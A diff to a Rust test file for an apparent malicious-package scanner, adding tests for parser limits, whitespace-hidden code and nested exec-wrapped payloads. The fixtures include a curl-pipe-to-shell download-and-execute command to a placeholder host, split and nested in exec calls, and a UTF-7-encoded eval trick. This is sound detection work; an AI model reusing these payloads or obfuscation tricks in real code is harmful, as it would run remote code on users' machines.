@@ -4,7 +4,8 @@ use gate_core::coverage::{CoverageClass, LostReason};
 
 use super::behaviour::Case;
 use super::scan;
-use crate::python::{LEXICAL_ANALYZER, MAX_BYTES};
+use crate::python::hidden::FAR_RIGHT;
+use crate::python::{LEXICAL_ANALYZER, MAX_BYTES, MAX_CHAIN, MAX_NESTED_BYTES, MAX_TEXT_WORK};
 
 pub(super) fn fires() -> Vec<Case> {
     vec![("deceptive-encoding", "pkg/a.py", "# coding: utf-7\n+AGU-val(x)\n".to_owned())]
@@ -54,7 +55,7 @@ fn what_cannot_be_read_is_lost() {
     assert_eq!(lost("pkg/a.py", b"x = 1\0\n"), Some(LostReason::Unparsable));
     assert_eq!(lost("pkg/a.py", b"x = '\xe9'\n"), Some(LostReason::Undecodable));
     assert_eq!(lost("pkg/a.py", b"\xff\xfex\0"), Some(LostReason::Undecodable));
-    let deep = format!("x = {}{}\n", "(".repeat(40_000), ")".repeat(40_000));
+    let deep = format!("x = {}{}\n", "(".repeat(70_000), ")".repeat(70_000));
     assert_eq!(lost("pkg/a.py", deep.as_bytes()), Some(LostReason::Limit));
     assert_eq!(lost("a.pth", b"import \xff\n"), Some(LostReason::Undecodable));
     assert_eq!(lost("a.pth", b"import )\n"), Some(LostReason::Unparsable));
@@ -133,6 +134,58 @@ fn pth_lines_are_split_as_every_python_splits_them() {
         "src\u{c}import\ta; a.b(1)",
     ] {
         assert!(scan("a.pth", text.as_bytes()).0.iter().any(|finding| finding.rule == "pth-code"), "{text:?}");
+    }
+}
+
+#[test]
+fn what_the_depth_guard_lets_through_fits_the_stack() {
+    let shapes = [("not ", 1), ("-", 1), ("a.", 2), ("f().", 3)]
+        .map(|(unit, words)| format!("import socket\nx = {}b\n", unit.repeat((MAX_CHAIN - 10) / words)));
+    let scans = std::thread::Builder::new()
+        .stack_size(1 << 30)
+        .spawn(move || shapes.map(|source| lost("pkg/a.py", source.as_bytes())));
+    assert_eq!(scans.unwrap().join().unwrap(), [None; 4]);
+}
+
+#[test]
+fn work_on_texts_and_on_code_in_strings_is_limited() {
+    let word = ["ex", "ec"].concat();
+    let part = MAX_NESTED_BYTES / 8;
+    let code = |length: usize| format!("x = 1 #{}", "a".repeat(length - 7));
+    for (last, fine) in [(part - 1, true), (part, true), (part + 1, false)] {
+        // Each is read twice.
+        let source =
+            format!("a = '{}'\nb = '{}'\n{}{word}(b)\n", code(part), code(last), format!("{word}(a)\n").repeat(3));
+        assert_eq!(lost("pkg/a.py", source.as_bytes()), (!fine).then_some(LostReason::Limit), "{last}");
+    }
+    let grown = format!("import socket\ns = ''\n{}", format!("s += '{}'\n", "a".repeat(60)).repeat(10_000));
+    assert_eq!(lost("pkg/a.py", grown.as_bytes()), None, "a text that grows in place costs its length");
+    let big =
+        format!("import socket\ns = '{}'\n{}", "a".repeat(60_000), "t = s[::-1]\n".repeat(MAX_TEXT_WORK / 60_000));
+    assert_eq!(lost("pkg/a.py", big.as_bytes()), Some(LostReason::Limit));
+}
+
+#[test]
+fn blanks_hide_code_from_so_many_on() {
+    for (blanks, hides) in [(FAR_RIGHT - 1, false), (FAR_RIGHT, true), (FAR_RIGHT + 1, true)] {
+        for blank in [" ", "\t", "\u{c}"] {
+            let source = format!("x = 1;{}y = 2\n", blank.repeat(blanks));
+            let (findings, _) = scan("pkg/a.py", source.as_bytes());
+            assert_eq!(findings.iter().any(|finding| finding.rule == "hidden-code"), hides, "{blanks} {blank:?}");
+        }
+    }
+}
+
+#[test]
+fn code_in_strings_is_followed_and_a_deep_nest_of_it_is_reported() {
+    let word = ["ex", "ec"].concat();
+    let nest = |depth: usize| {
+        let payload = ["import os; os.system('cu", "rl https://host.example | s", "h')"].concat();
+        (0..depth).fold(payload, |code, _| format!("{word}({})", serde_json::to_string(&code).unwrap()))
+    };
+    for (depth, rule) in [(1, "shell-download-execute"), (4, "shell-download-execute"), (5, "obfuscated-exec")] {
+        let (findings, _) = scan("pkg/a.py", nest(depth).as_bytes());
+        assert!(findings.iter().any(|finding| finding.rule == rule), "{depth}: {findings:?}");
     }
 }
 
